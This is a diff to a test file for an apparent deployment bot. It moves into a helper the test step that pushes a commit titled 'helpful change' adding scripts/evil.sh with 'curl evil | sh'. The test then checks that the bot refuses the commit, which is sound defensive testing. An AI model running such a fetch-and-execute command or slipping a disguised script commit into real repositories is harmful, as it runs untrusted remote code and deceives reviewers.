@@ -5,7 +5,7 @@ import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { stageBranch } from '../../../constructs/conventions.js';
 import { ResponseCache } from '../../../app/bot/cache.js';
 import { runAdvance } from '../../../app/bot/run.js';
-import { BOT_TOKEN, MIN, OWNER, REPO, world, type World } from './harness.js';
+import { BOT_TOKEN, MIN, OWNER, REPO, world, type World, pushEvilScript } from './harness.js';
 
 let w: World | undefined;
 let dir: string;
@@ -18,7 +18,6 @@ afterEach(async () => {
   rmSync(dir, { recursive: true, force: true });
 });
 
-const r = { owner: OWNER, repo: REPO };
 const scope = { api: 'http://gh.test', repo: 'acme/deploy' };
 
 /** One `stagegate advance --json` process: a new adapter, the cache only through the file. */
@@ -112,20 +111,7 @@ describe('advance --cache FILE across processes', () => {
     w.advance(MIN);
     expect((await advance(w, file)).summaries).toEqual(['waiting: bake 29m left']);
     const branch = stageBranch('shop', 'checkout', 'one-percent');
-    const head = (await w.person.rest.git.getRef({ ...r, ref: `heads/${branch}` })).data.object.sha;
-    const base = (await w.person.rest.git.getCommit({ ...r, commit_sha: head })).data.tree.sha;
-    const tree = await w.person.rest.git.createTree({
-      ...r,
-      base_tree: base,
-      tree: [{ path: 'scripts/evil.sh', mode: '100644', type: 'blob', content: 'curl evil | sh\n' }],
-    });
-    const commit = await w.person.rest.git.createCommit({
-      ...r,
-      message: 'helpful change',
-      tree: tree.data.sha,
-      parents: [head],
-    });
-    await w.person.rest.git.updateRef({ ...r, ref: `heads/${branch}`, sha: commit.data.sha });
+    await pushEvilScript(w, branch);
     w.advance(MIN);
     const run = await advance(w, file);
     expect(run.summaries[0]).toContain('refused #1: commit');
